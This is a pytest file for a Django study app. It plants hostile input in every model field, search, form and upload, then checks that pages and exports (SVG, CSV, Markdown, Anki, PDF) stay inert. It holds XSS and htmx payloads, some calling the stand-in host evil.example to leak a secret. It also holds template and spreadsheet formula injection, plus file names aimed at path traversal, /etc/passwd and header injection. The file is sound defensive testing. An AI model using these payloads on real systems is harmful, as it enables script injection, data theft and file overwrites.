"""Hostile words in every field of everything: what pages and exports make of them.

A new model, field, page or export is taken in by itself: fields come from the models, addresses
from the URL map. Whatever a stranger wrote must be words on the page, and nothing else.
"""

import csv
import io
import re
import sqlite3
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from django.apps import apps
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from markdown_it import MarkdownIt

from apps.library.models import Document
from apps.study.models import Mindmap, Question
from apps.web import markdown
from tests.test_doors import ADDRESSES, DOORS, things  # noqa: F401  (a fixture)
from tests.web.test_fences import release

SHORT = "\"'><svg/onload=evil(1)>{{7777*7}}</title></textarea><script>evil()</script>"
PAYLOADS = [
    SHORT,
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=evil()>",
    '<iframe srcdoc="<script>evil()</script>"></iframe>',
    '<a href="javascript:evil()">x</a> [x](javascript:evil()) [x](JaVaScRiPt:evil())',
    "[x](data:text/html;base64,PHNjcmlwdD4=) <javascript:evil()> <vbscript:evil()>",
    "![x](https://evil.example/?told=secret) [![x](//evil.example/x)](//evil.example)",
    '<div hx-get="/logout/" hx-trigger="load" hx-on:load="evil()"></div>',
    '<hx-partial hx-target="body"><b>x</b></hx-partial>',
    '<form action="//evil.example"><button formaction="javascript:evil()">x</button></form>',
    "<base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=evil()>'>",
    '[1](https://evil.example "x" onmouseover=evil()) `</code><script>evil()</script>`',
    "```<script>\n</code></pre><script>evil()</script>\n```",
    "<details open ontoggle=evil()><!--[if gte IE 4]><script>evil()</script><![endif]-->",
    "{% load static %}{{ request.user.password }}{{7777*7}}",
    "=HYPERLINK(\"https://evil.example\")\n+1+cmd|' /C calc'!A0\n-2\n@SUM(1)",
]
LONG = "\n\n".join(PAYLOADS)
# What is ours to write, and would break the page rather than show up in it.
OURS = re.compile(
    r"session|sha256|digest|guid|language|zone|timezone|format|^key$|^code$|embedding|file"
)
NEVER = {"iframe", "object", "embed", "base", "style", "math", "hx-partial", "frame", "applet"}
LEADS = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "data", "poster"}
FOREIGN = re.compile(r"(https?:)?//|mailto:")


class Faults(HTMLParser):
    """What in a page could run, load or lead somewhere that is not the vault's own."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.script = False
        self.feed(html)
        if "54439" in html:
            self.found.append("a template in the data was run")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.script = tag == "script"
        if tag in NEVER or (
            tag == "script" and not attributes.get("src", "").startswith("/static/")
        ):
            self.found.append(f"<{tag}>")
        # Without scripts, a page that waits loads itself again: a number alone, no address.
        ours = attributes.get("content", "").isdigit()
        if tag == "meta" and "http-equiv" in attributes and not ours:
            self.found.append(f"<meta {attributes}>")
        for name, value in attributes.items():
            if name.startswith(("on", "hx-on")) or name in {"style", "srcdoc", "srcset"}:
                self.found.append(f"{tag} {name}={value}")
            if name in LEADS and not self._leads_well(tag, value, attributes):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self.script and data.strip():
            self.found.append(f"script: {data}")

    @staticmethod
    def _leads_well(tag: str, value: str, attributes: dict[str, str]) -> bool:
        if FOREIGN.match(value):  # a link a reader may follow, which tells nothing of the page
            return tag == "a" and "noreferrer" in attributes.get("rel", "")
        return value[:1] in {"/", "#", "?", ""}


def hostile(value: Any) -> Any:
    """The same tree with hostile words in each of its leaves."""
    if isinstance(value, dict):
        return {key: hostile(each) for key, each in value.items()}
    if isinstance(value, list):
        return [hostile(each) for each in value]
    return SHORT if isinstance(value, str) else value


def poison() -> int:
    """Write hostile words into every field for words of every row of ours; how many fields."""
    count = 0
    for model in apps.get_models():
        if not model.__module__.startswith("apps.") and model._meta.label != "auth.User":
            continue
        fields: dict[str, Any] = {}
        for field in model._meta.concrete_fields:
            is_words = isinstance(field, models.CharField | models.TextField)
            if not is_words or field.choices or field.primary_key or OURS.search(field.name):
                continue
            length = getattr(field, "max_length", None)
            words = LONG if length is None else SHORT
            if length is None or length >= len(SHORT):
                fields[field.name] = words
        fields.pop("password", None)
        for row in model._default_manager.all():
            unique = {f.name for f in model._meta.concrete_fields if f.unique}
            told = {
                name: f"{words[:40]}{row.pk}" if name in unique else words
                for name, words in fields.items()
            }
            model._default_manager.filter(pk=row.pk).update(**told)
            count += len(told)
    return count


@pytest.fixture
def poisoned(reader: Client, things: dict[str, Any]) -> dict[str, Any]:  # noqa: F811
    """One of everything, and not one honest word in it."""
    Mindmap.objects.update(tree=hostile(Mindmap.objects.get().tree))
    Question.objects.update(options=[SHORT, LONG], explanation=LONG)
    assert poison() > 40
    return things


def test_the_check_sees_what_it_must() -> None:
    for payload in [each for each in PAYLOADS if re.match(r"[\"']*><?|<\w", each)]:
        assert Faults(payload).found, payload
    assert Faults('<a href="https://a.example" rel="noopener noreferrer">x</a>').found == []


def test_no_page_runs_or_loads_what_was_written(reader: Client, poisoned: dict[str, Any]) -> None:
    shown = 0
    for address in ADDRESSES:
        if "GET" not in DOORS[address.name]:
            continue
        for headers in ({}, {"HX-Request": "true"}):
            answer = reader.get(address.url(poisoned), headers=headers)
            if answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/html"):
                assert Faults(answer.text).found == [], (address, headers)
                shown += "onload=evil" in answer.text
            release(answer)
    assert shown > 30  # as words


def test_a_search_shows_what_was_asked_as_words(reader: Client, poisoned: dict[str, Any]) -> None:
    for payload in (SHORT, LONG, *PAYLOADS[-2:]):
        for path in ("/search/", "/library/", "/chat/"):
            answer = reader.get(path, {"q": payload, "question": payload, "category": payload})
            if answer.status_code == 200:
                assert Faults(answer.text).found == []


def test_forms_give_back_what_was_typed_as_words(reader: Client, poisoned: dict[str, Any]) -> None:
    for address in ADDRESSES:
        if "POST" in DOORS[address.name] and address.name not in {"vault:logout", "vault:setup"}:
            fields = ("name", "username", "title", "question", "front", "back", "label", "q")
            answer = reader.post(address.url(poisoned), dict.fromkeys(fields, SHORT))
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                assert Faults(answer.text).found == [], address


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_of_a_model_is_made_safe(payload: str) -> None:
    for text in (payload, f"# {payload}", f"- {payload}", f"| a |\n|---|\n| {payload} |"):
        html = markdown.render(text, {1: "<i>1</i>"})
        assert Faults(html).found == []
        growing = markdown.Growing()
        assert all(
            Faults(growing.html(text[:length], {})).found == []
            for length in range(0, len(text) + 1, 7)
        )


FORMS = [
    ("study:mindmap_export", "suffix", ("md", "svg", "png", "pdf")),
    ("study:deck_export", "kind", ("csv", "apkg")),
    ("study:quiz_export", "kind", ("md", "pdf")),
    ("study:workshop_export", "kind", ("md", "pdf")),
    ("progress:export", "form", ("csv", "json")),
    ("library:document_download", "", ("",)),
    ("chat:answer_markdown", "", ("",)),
]


def exports(reader: Client, told: dict[str, Any]) -> dict[str, Any]:
    """Every file that can be taken along, by the end of its name."""
    found = {}
    for address in ADDRESSES:
        for name, key, forms in FORMS:
            for form in forms if address.name == name else ():
                asked = told | ({key: form} if key else {})
                answer = reader.get(address.url(asked), {"format": form, "form": form})
                if answer.status_code == 200:
                    found[f"{name} {form}"] = answer
    return found


def body(answer: Any) -> bytes:
    content = b"".join(answer) if answer.streaming else answer.content
    release(answer)
    return bytes(content)


def test_exports_are_inert(reader: Client, poisoned: dict[str, Any]) -> None:
    found = exports(reader, poisoned)
    assert len(found) >= 10
    for name, answer in found.items():
        told = answer.headers["Content-Disposition"]
        assert told.startswith("attachment") and not re.search(r"[\r\n]", told), name
        assert "sandbox" in answer.headers["Content-Security-Policy"], name
        content = body(answer)
        if name.endswith(" svg"):
            for element in ElementTree.fromstring(content).iter():
                tag = element.tag.rpartition("}")[2]
                assert tag not in {"script", "foreignObject", "image", "a", "style", "use"}
                assert not [key for key in element.attrib if key.startswith("on") or "href" in key]
        elif name.endswith(" csv"):
            for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
                assert not [cell for cell in row if cell[:1] in {*"=+-@\t\r"}], name
        elif name.endswith(" md"):  # the copy of an answer is its Markdown as it stands
            html = MarkdownIt("commonmark", {"html": True}).render(content.decode())
            html = html.replace('href="http://testserver/', 'href="/')  # back into the vault
            assert Faults(html).found == [], name
        elif name.endswith(" apkg"):
            for field in anki_fields(content):
                assert Faults(field.replace('href="http://testserver/', 'href="/')).found == []
        elif name.endswith(" pdf"):
            assert not re.search(rb"/JavaScript|/JS\b|/Launch|/SubmitForm", content), name


def anki_fields(content: bytes) -> list[str]:
    """What the cards of an Anki package show."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        database = sqlite3.connect(":memory:")
        database.deserialize(archive.read("collection.anki2"))
    return [
        field
        for (fields,) in database.execute("SELECT flds FROM notes")
        for field in fields.split("\x1f")
    ]


NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\evil.txt",
    "/etc/cron.d/evil.txt",
    "C:\\evil.txt",
    "evil.txt\r\nX-Injected: yes",
    "evil\x00.txt",
    "\u202etxt.evil.html",
    '";filename=evil.html;".txt',
    "=cmd|' /C calc'!A0.csv",
    "%2e%2e%2fevil.txt",
    ".htaccess",
    "x" * 300 + ".txt",
    "<img src=x onerror=evil()>.svg",
    "~root.txt",
    "-rf.txt",
    "nul.txt",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_files_name_is_words(reader: Client, name: str) -> None:
    content = b"<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>"
    upload = SimpleUploadedFile("x.txt", content, "image/svg+xml")
    upload._name = name  # past what the test client makes of it
    reader.post("/library/upload/", {"file": upload})
    document = Document.objects.order_by("pk").last()
    if document is None:
        return  # refused
    path = Path(document.file.path).resolve()
    assert path.parent == Path(settings.MEDIA_ROOT, "documents").resolve()
    assert re.fullmatch(r"[0-9a-f]{32}", path.name)
    answer = reader.get(f"/library/documents/{document.pk}/download/")
    assert answer.headers["Content-Type"] == "application/octet-stream"
    assert "X-Injected" not in answer.headers and "sandbox" in str(answer.headers)
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert body(answer) == content
    for page in ("/library/", f"/library/documents/{document.pk}/"):
        assert Faults(reader.get(page).text).found == []
